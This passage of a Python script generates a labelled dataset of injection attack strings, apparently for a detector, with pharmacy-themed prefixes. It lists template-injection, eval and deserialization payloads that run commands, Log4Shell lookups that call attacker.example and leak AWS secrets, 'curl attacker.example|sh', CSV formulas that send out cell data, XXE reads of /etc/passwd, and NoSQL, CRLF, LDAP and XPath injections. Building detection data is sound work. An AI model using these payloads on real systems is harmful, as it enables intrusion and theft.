jsp-el-runtime ⟫ ${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}
jsp-el-session-tamper ⟫ ${pageContext.request.getSession().setAttribute("role","admin")}
ognl-member-access ⟫ %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
ognl-static-call ⟫ ${@java.lang.Runtime@getRuntime().exec("id")}
spel-hash-runtime ⟫ #{T(java.lang.Runtime).getRuntime().exec('id')}
spel-dollar-getenv ⟫ ${T(java.lang.System).getenv()}
spel-processbuilder ⟫ #{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}
eval-python-import ⟫ __import__('os').system('id')
eval-python-subprocess ⟫ __import__('subprocess').check_output(['cat','/etc/passwd'])
eval-dose-formula-python ⟫ weight*15 + __import__('os').system('curl attacker.example|sh')
eval-node-child-process ⟫ require('child_process').exec('curl http://attacker.example/$(id)')
eval-node-mainmodule ⟫ process.mainModule.require('child_process').execSync('id').toString()
eval-php-breakout ⟫ 0.85);system('id');//
eval-js-string-breakout ⟫ '+require('child_process').execSync('id')+'
eval-ruby-interpolation ⟫ #{`id`}
eval-php-phpinfo ⟫ phpinfo();
log4shell-ldap ⟫ ${jndi:ldap://attacker.example/a}
log4shell-rmi ⟫ Fridge 3B ${jndi:rmi://198.51.100.4:1099/x}
log4shell-lower-lookup ⟫ ${${lower:j}ndi:${lower:l}dap://attacker.example/x}
log4shell-default-value ⟫ ${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/x}
log4shell-dns-env-exfil ⟫ ${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}
log4shell-env-nan ⟫ ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}
log4shell-hostname ⟫ lot K7Q2211 ${jndi:ldap://${hostName}.attacker.example/a}
log4shell-urlencoded ⟫ %24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D
proto-pollution-json ⟫ {"__proto__":{"isAdmin":true}}
proto-pollution-query ⟫ __proto__[isAdmin]=true
proto-pollution-constructor ⟫ constructor[prototype][role]=admin
proto-pollution-ejs-gadget ⟫ {"constructor":{"prototype":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}}
csv-dde-cmd ⟫ =cmd|' /C calc'!A0
csv-hyperlink-exfil ⟫ =HYPERLINK("http://attacker.example/?d="&A1&B1,"Click for dosing chart")
csv-at-sum-dde ⟫ @SUM(1+1)*cmd|' /C calc'!A0
csv-plus-powershell ⟫ +cmd|' /C powershell IEX(wget attacker.example/p)'!A0
csv-minus-dde ⟫ -2+3+cmd|' /C calc'!A0
csv-importxml-exfil ⟫ =IMPORTXML(CONCAT("http://attacker.example/?",A2),"//a")
csv-webservice-exfil ⟫ =WEBSERVICE("http://attacker.example/"&B2)
xxe-file ⟫ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><ndc>&x;</ndc></r>
xxe-parameter-oob ⟫ <?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd">%d;]><r/>
xinclude-text ⟫ <lot xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></lot>
xxe-svg-upload ⟫ <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>
xxe-billion-laughs ⟫ <?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>
yaml-python-apply ⟫ !!python/object/apply:os.system ["id"]
yaml-python-new-subprocess ⟫ drug: !!python/object/new:subprocess.check_output [["id"]]
yaml-snakeyaml-scriptengine ⟫ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/x.jar"]]]]
pickle-protocol0 ⟫ cos¶system¶(S'id'¶tR.
pickle-base64-protocol2 ⟫ gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==
dotnet-jsonnet-typename ⟫ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
php-unserialize-laravel-chain ⟫ O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"␀*␀events";O:15:"Faker\Generator":1:{s:13:"␀*␀formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"␀*␀event";s:2:"id";}
php-phar-wrapper ⟫ phar://uploads/labels/avatar.jpg/test.txt
node-serialize-iife ⟫ {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
java-xstream-eventhandler ⟫ <sorted-set><string>amoxicillin</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>sh</string><string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
java-jackson-default-typing ⟫ ["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example/rx","autoCommit":true}]
''')

CODE_PREFIX = ["Label EN: ", "Rx for ", "Counseling note: ", "Aux label: ", "Fridge 3B comment: "]
CODE_PAY = [("jinja2-os-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
            ("log4shell-ldap", "${jndi:ldap://attacker.example/rx}"),
            ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
            ("freemarker-execute", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"id\")}"),
            ("twig-filter-system", "{{['id']|filter('system')}}")]

# ===================================================================== nosqli
NOSQLI = block(r'''
json-ne-null ⟫ {"$ne": null}
json-gt-empty ⟫ {"$gt": ""}
json-regex-prefix ⟫ {"$regex": "^a"}
json-where-sleep ⟫ {"$where": "sleep(5000) || true"}
where-string-breakout ⟫ '; return true; var x='
where-or-tautology ⟫ ' || '1'=='1
query-ne-operators ⟫ username[$ne]=x&password[$ne]=x
json-or-empty ⟫ {"$or":[{},{"a":"a"}]}
json-where-regex-password ⟫ {"$where":"this.password.match(/^a/)"}
json-expr-function ⟫ {"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}
query-regex-any ⟫ password[$regex]=.*
json-in-roles ⟫ {"$in": ["admin","root","pharmacy_director"]}
json-exists ⟫ {"$exists": true}
json-nin-empty ⟫ {"$nin": []}
where-sleep-breakout ⟫ ';sleep(5000);'
where-return-true ⟫ 0;return true
json-lookup-users ⟫ [{"$lookup":{"from":"users","localField":"x","foreignField":"x","as":"leak"}}]
json-where-function-role ⟫ {"$where":"function(){return this.role=='admin'}"}
json-regex-options ⟫ {"$regex":".*","$options":"si"}
where-process-exit ⟫ this.constructor.constructor('return process')().exit()
json-lot-ne ⟫ {"lot": {"$ne": "K7Q2211"}, "controlled": true}
json-drug-regex-comment ⟫ {"drug":{"$regex":"^.*"},"$comment":"x"}
query-gt-empty ⟫ ndc[$gt]=
json-where-sleep-number ⟫ {"$where":"sleep(10000)"}
json-unionwith ⟫ [{"$unionWith":"users"}]
json-ne-password ⟫ {"username":"admin","password":{"$ne":"x"}}
query-where-js ⟫ drug[$where]=this.cost>0
''')

# ======================================================================= crlf
CRLF = block(r'''
log-forge-raw-newline ⟫ amoxicillin 500 mg¶2025-06-01 03:12:44 INFO user=admin action=override_approved order=448210
log-forge-urlencoded ⟫ 0409-4888-02%0D%0A[INFO] login success user=chief_pharmacist
header-set-cookie-raw ⟫ en-US␍␊Set-Cookie: session=attacker-fixed
header-location-urlencoded ⟫ /labels%0d%0aLocation:%20https://attacker.example/
response-splitting-full ⟫ x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
mail-bcc-raw ⟫ rx@hospital.example␍␊Bcc: list@attacker.example
mail-cc-urlencoded ⟫ refill request%0ACc: victims@attacker.example
mail-content-type-body ⟫ Refill ready␊Content-Type: text/html␊␊<a href="https://attacker.example/pay">Pay copay</a>
header-node-unicode-crlf ⟫ x%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1
iis-u-crlf ⟫ x%u000d%u000aSet-Cookie:%20sid=attacker
double-urlencoded-crlf ⟫ x%250d%250aSet-Cookie:%20sid=attacker
smtp-rcpt-injection ⟫ pharmacy@hospital.example>␍␊RCPT TO:<x@attacker.example>
log-ansi-escape ⟫ fridge 3B 4.1C␛[2K␛[1A␛[32mOK all checks passed
header-xff-injection ⟫ 203.0.113.5␍␊X-Admin: true
log-forge-lf-only-urlenc ⟫ lot K7Q2211%0a2025-06-01T03:00:00Z AUDIT waste witnessed by=pharmacy_director
log-forge-cr-only ⟫ NDC 55150-0154-10%0dDISPENSE APPROVED by chief_pharmacist
header-content-type-xss ⟫ es-MX%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<svg onload=alert(1)>
mail-subject-bcc ⟫ Your prescription is ready%0d%0aBcc:%20all-staff@attacker.example
log-forge-json-line ⟫ recount ok¶{"level":"info","user":"admin","event":"cs_discrepancy_cleared"}
header-redirect-raw ⟫ /orders␍␊Location: https://attacker.example/login␍␊␍␊
header-cache-poison ⟫ x%0d%0aX-Forwarded-Host:%20attacker.example
log-forge-syslog ⟫ vanc trough 12.1%0d%0a<134>Jun  1 03:00:00 rx-app sshd[1]: Accepted password for root from 203.0.113.9
mail-to-injection ⟫ a@hospital.example%0ATo:%20b@attacker.example%0ASubject:%20Password%20reset
header-refresh ⟫ en%0d%0aRefresh:%200;url=https://attacker.example/
header-utf8-overlong-crlf ⟫ x%c0%8d%c0%8aSet-Cookie:%20sid=attacker
log-forge-crlf-raw-audit ⟫ K7Q2211␍␊2025-06-01 04:00:00 AUDIT fridge=3B temp=4.0C status=OK signed=QA
mail-header-lf-raw ⟫ Lot recall notice␊Bcc: everyone@attacker.example
''')

CRLF_PREFIX = ["Fridge 3B 4.2 C", "lot K7Q2211", "refill ready", "en-US"]
CRLF_PAY = [("set-cookie", "%0d%0aSet-Cookie:%20sid=attacker"), ("log-forge", "%0a[INFO] override approved by admin"),
            ("bcc", "%0d%0aBcc:%20dump@attacker.example")]

# ================================================================ ldap-xpath
LDAPX = block(r'''
ldap-wildcard-close-or ⟫ *)(uid=*))(|(uid=*
ldap-and-true ⟫ chief_pharmacist)(&)
ldap-objectclass ⟫ *)(|(objectClass=*)
ldap-password-attr-probe ⟫ pharm*)(userPassword=*)
ldap-null-truncate ⟫ *))%00
ldap-cn-breakout ⟫ )(cn=*))(|(cn=*
ldap-memberof-injection ⟫ jsmith)(|(memberOf=cn=Pharmacy Admins,ou=Groups,dc=hosp,dc=local)
ldap-blind-password-prefix ⟫ admin)(userPassword=a*
ldap-mail-wildcard ⟫ *)(mail=*@hospital.example
ldap-or-admin ⟫ x)(|(uid=admin)(uid=*
xpath-string-tautology ⟫ ' or '1'='1
xpath-or-numeric ⟫ ' or 1=1 or 'a'='a
xpath-union-nodes ⟫ '] | //user/password | //x['
xpath-count-probe ⟫ ' or count(/*)=1 or 'a'='b
xpath-blind-substring ⟫ ' and substring(//user[1]/password,1,1)='a' and '1'='1
xpath-name-probe ⟫ x' or name()='username' or 'x'='y
xpath-paren-tautology ⟫ ') or ('1'='1
xpath-numeric-or ⟫ 448210 or 1=1
xpath-string-length ⟫ ' or string-length(name(/*[1]))>0 or 'a'='b
xpath-all-nodes ⟫ amoxicillin'] | //* | a['
''')

SPECS = [
    ("sqli", SQLI, SQLI_PREFIX, SQLI_PAY, 6),
    ("xss", XSS, XSS_PREFIX, XSS_PAY, 6),
    ("cmdi", CMDI, CMDI_PREFIX, CMDI_PAY, 7),
    ("traversal", TRAV, TRAV_PREFIX, TRAV_PAY, 5),
    ("ssrf", SSRF, SSRF_PREFIX, SSRF_PAY, 5),
    ("code", CODE, CODE_PREFIX, CODE_PAY, 3),
    ("nosqli", NOSQLI, [], [], 0),
    ("crlf", CRLF, CRLF_PREFIX, CRLF_PAY, 3),
    ("ldap-xpath", LDAPX, [], [], 0),
]


def template(r, prefixes, payloads):
    """ONE template: hand-written prefix + hand-written payload; with no prefixes,
    apply one encoding (URL-encoding) to a hand-written payload."""
    cls, pay = r.choice(payloads)
    if prefixes:
        return "note-" + cls, r.choice(prefixes) + pay
    return cls + "+urlencode", urllib.parse.quote(pay, safe="")


def main():
    r = random.Random(SEED)
    rows = []
    seen = set()
    n = 0
    stats = []
    for cat, lits, prefixes, payloads, n_tpl in SPECS:
        vals = []
        for cls, v in lits:
            assert v.strip() and v not in seen, (cat, v)
            seen.add(v)
            vals.append((cls, v))
        got = 0
        tries = 0
        while got < n_tpl:
            tries += 1
            assert tries < 10000, cat
            cls, v = template(r, prefixes, payloads)
            if v in seen:
                continue
            seen.add(v)
            vals.append((cls, v))
            got += 1
        stats.append((cat, len(lits), len(vals)))
        for cls, v in vals:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls, "label": "attack",
                         "value": v})
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    tl = sum(s[1] for s in stats)
    for cat, lit, tot in stats:
        print("%-11s literals=%d total=%d" % (cat, lit, tot))
    print("literals %d / %d = %.1f%%" % (tl, len(rows), 100.0 * tl / len(rows)))
    print("wrote %d rows to %s" % (len(rows), out))


if __name__ == "__main__":
    main()
